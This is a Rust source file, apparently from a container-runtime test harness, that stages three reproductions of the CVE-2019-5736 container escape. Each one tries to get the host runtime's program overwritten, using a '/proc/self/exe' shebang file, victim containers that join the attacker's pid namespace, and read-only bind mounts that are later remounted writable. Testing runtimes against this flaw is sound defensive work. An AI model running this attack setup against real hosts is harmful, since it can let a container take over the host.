// SPDX-License-Identifier: Apache-2.0
//! Attacks on the runtime's program file.

use crate::arena::{Arena, Attack, Contained};
use conformance::attack::Count;
use conformance::{Bundle, Doing, Result, payload};
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use serde_json::json;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::sync::atomic::Ordering::SeqCst;
use std::time::{Duration, Instant};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "overwrite the program through its mount",
        stands_for: "CVE-2019-5736: a container executes the runtime's program, opens it in /proc/PID/exe, and \
                     makes its mount writable from a user namespace",
        run: overwrite_by_exec,
    },
    Attack {
        name: "overwrite the program of create",
        stands_for: "CVE-2019-5736: a container overwrites the runtime's program, which another container \
                     executes as its program or startContainer hook in the pid namespace of the first",
        run: overwrite_by_create,
    },
    Attack {
        name: "keep the program until it can be written",
        stands_for: "CVE-2019-5736: the runtime is on a read-only mount, and a container keeps a descriptor of \
                     it until the mount is made writable",
        run: keep,
    },
];

/// The slot in which the attacker reports that the program is writable.
const CLEARED: usize = 3;

/// Makes /x of an image execute the runtime's own program.
fn add_own_program(bundle: &Bundle) -> Result {
    fs::write(bundle.rootfs("x"), "#!/proc/self/exe\n").doing("write")?;
    fs::set_permissions(bundle.rootfs("x"), PermissionsExt::from_mode(0o755)).doing("chmod")?;
    // A program that is not static uses the image's interpreter.
    fs::create_dir(bundle.rootfs("lib64")).doing("mkdir")?;
    let interpreter = bundle.rootfs("lib64/ld-linux-x86-64.so.2");
    fs::write(&interpreter, payload::waits()).doing("write")?;
    fs::set_permissions(&interpreter, PermissionsExt::from_mode(0o755)).doing("chmod")
}

/// Lets the runtime execute its own program by `execute`, until it is overwritten.
fn overwrite(arena: &Arena, attacker: &Contained<'_>, execute: impl Fn(u32) -> Result) -> Result<Count> {
    let mut count = Count::default();
    for n in 0..arena.tries {
        if attacker.score.successes.load(SeqCst) > 0 {
            break;
        }
        count.tries += 1;
        // Fails if the program is overwritten meanwhile.
        execute(n)?;
        let end = Instant::now() + Duration::from_secs(6);
        while attacker.score.slots[CLEARED].load(SeqCst) == 1 && Instant::now() < end {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    arena.repair()?;
    attacker.stop()?;
    Ok(attacker.tally(count))
}

fn overwrite_by_exec(arena: &Arena) -> Result<Count> {
    let attacker = arena.container("attacker", &["program", "overwrite", "10", "3"], |_| ())?;
    add_own_program(&attacker.bundle)?;
    attacker.start()?;
    overwrite(arena, &attacker, |_| attacker.exec_briefly(&["/x", "--version"]))
}

fn overwrite_by_create(arena: &Arena) -> Result<Count> {
    let attacker = arena.container("attacker", &["program", "overwrite", "10", "3"], |_| ())?;
    attacker.start()?;
    let pid = arena.runtime.state(attacker.id)?["pid"].as_i64().ok_or("no pid")?;
    let victim = |hook: bool| -> Result<Bundle> {
        let bundle = Bundle::new(&[])?.with(|config| {
            config["process"]["args"] = json!([if hook { "/probe" } else { "/x" }, "exit", "0"]);
            if hook {
                config["hooks"] = json!({ "startContainer": [{ "path": "/x", "args": ["x", "--version"] }] });
            }
            if let Some(list) = config["linux"]["namespaces"].as_array_mut() {
                list.retain(|namespace| namespace["type"] != "pid");
                list.push(json!({ "type": "pid", "path": format!("/proc/{pid}/ns/pid") }));
            }
        })?;
        add_own_program(&bundle)?;
        Ok(bundle)
    };
    let victims = [victim(false)?, victim(true)?];
    overwrite(arena, &attacker, |n| {
        let bundle = &victims[(n % 2) as usize];
        arena.briefly(arena.runtime.command(&["run", "victim"]).current_dir(bundle.path()))?;
        // Fails if the program is overwritten.
        let _either = arena.runtime.run(&["delete", "--force", "victim"]);
        Ok(())
    })
}

fn keep(arena: &Arena) -> Result<Count> {
    let attacker = arena.container("attacker", &["program", "keep"], |_| ())?;
    add_own_program(&attacker.bundle)?;
    attacker.start()?;
    let place = arena.volume("read-only")?;
    let none = None::<&str>;
    let directory = arena.runtime.program().parent();
    mount(directory, &place, none, MsFlags::MS_BIND, none).doing("bind")?;
    let change = |flags| mount(none, &place, none, MsFlags::MS_REMOUNT | MsFlags::MS_BIND | flags, none);
    change(MsFlags::MS_RDONLY).doing("remount")?;
    let runtime = place.join(arena.runtime.program().file_name().unwrap_or_default());
    let mut count = Count::default();
    for _ in 0..20 {
        let mut command = Command::new(&runtime);
        command.arg("--root").arg(arena.runtime.root()).args(["exec", "attacker", "/x", "--version"]);
        arena.briefly(command.stdin(Stdio::null()))?;
        count.tries += 1;
    }
    change(MsFlags::empty()).doing("remount")?;
    std::thread::sleep(Duration::from_millis(300));
    umount2(&place, MntFlags::MNT_DETACH).doing("umount")?;
    arena.repair()?;
    attacker.stop()?;
    Ok(attacker.tally(count))
}
